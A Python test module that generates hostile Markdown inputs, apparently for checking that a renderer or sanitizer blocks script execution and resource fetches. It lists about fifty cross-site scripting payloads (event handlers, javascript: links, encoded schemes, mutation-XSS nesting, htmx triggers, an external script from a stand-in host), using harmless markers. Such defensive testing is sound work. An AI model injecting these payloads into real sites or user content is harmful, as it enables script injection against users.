"""Markdown that tries to run a script or to fetch something."""

import random

_PAYLOADS = (
    "<script>window.hit=1</script>",
    "<script src=https://a.example/x.js></script>",
    "<img src=x onerror='window.hit=1'>",
    "<img src=/field/hit.png>",
    "![a](/field/hit.png)",
    "![a](https://a.example/hit.png 'b\" onload=\"window.hit=1')",
    "<svg/onload=window.hit=1>",
    "<svg><use href=/field/hit.svg#a></use></svg>",
    "<iframe src=/field/hit.html></iframe>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<link rel=stylesheet href=/field/hit.css>",
    "<style>@import '/field/hit.css'; * { background: url(/field/hit.png) }</style>",
    "<p style='background:url(/field/hit.png)'>a</p>",
    "<meta http-equiv=refresh content='0;url=/field/hit.html'>",
    "<base href=https://a.example/>",
    "<object data=/field/hit.html></object>",
    "<embed src=/field/hit.html>",
    "<video src=/field/hit.mp4 autoplay></video>",
    "<form action=/field/hit><button formaction=javascript:window.hit=1 autofocus></form>",
    "<input autofocus onfocus=window.hit=1>",
    "<details open ontoggle=window.hit=1>a</details>",
    "<div hx-get=/field/hit hx-trigger=load>a</div>",
    "<div data-hx-get=/field/hit data-hx-trigger=load>a</div>",
    "<div hx-on:htmx:after:process='window.hit=1'>a</div>",
    "<a href=javascript:window.hit=1 id=x>a</a>",
    "[a](javascript:window.hit=1)",
    "[a](JaVaScRiPt&colon;window.hit=1)",
    "[a](&#106;avascript:window.hit=1)",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:window.hit=1>",
    "[a]: javascript:window.hit=1\n\n[a]",
    "[a](/field/guides/x\" onclick=\"window.hit=1)",
    "[a](tel:1 onmouseover=window.hit=1)",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1></style></mglyph></table></math>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'></noscript>",
    "<template><script>window.hit=1</script></template>",
    "<xmp><img src=x onerror=window.hit=1></xmp>",
    "<!--><img src=x onerror=window.hit=1>-->",
    "<![CDATA[<img src=x onerror=window.hit=1>]]>",
    "</article></main><script>window.hit=1</script>",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.hit=1&#62;",
    "`<img src=x onerror=window.hit=1>`",
    "```\n<img src=x onerror=window.hit=1>\n```",
    "<scr<script>ipt>window.hit=1</scr</script>ipt>",
    "<img src=`x` onerror=window.hit=1>",
    "<a href=\" javascript:window.hit=1\">a</a>",
    "<audio src onloadstart=window.hit=1>",
    "<body onload=window.hit=1>",
    "<marquee onstart=window.hit=1>a</marquee>",
)  # fmt: skip
_AROUND = (
    "{}",
    "## {}",
    "- {}",
    "1. {}",
    "> {}",
    "**{}**",
    "*{}*",
    "[{}](/field/guides/x)",
    "a {} b",
    "\n\n{}\n\n",
)


def hostile_texts(rng: random.Random, count: int) -> list[str]:
    """Different texts, each of two to four payloads in Markdown's constructs; every payload is in one."""
    texts: dict[str, None] = {}
    while len(texts) < count:
        parts = [_PAYLOADS[len(texts) % len(_PAYLOADS)], *rng.choices(_PAYLOADS, k=rng.randint(1, 3))]
        texts["\n".join(rng.choice(_AROUND).format(part) for part in parts)] = None
    return list(texts)
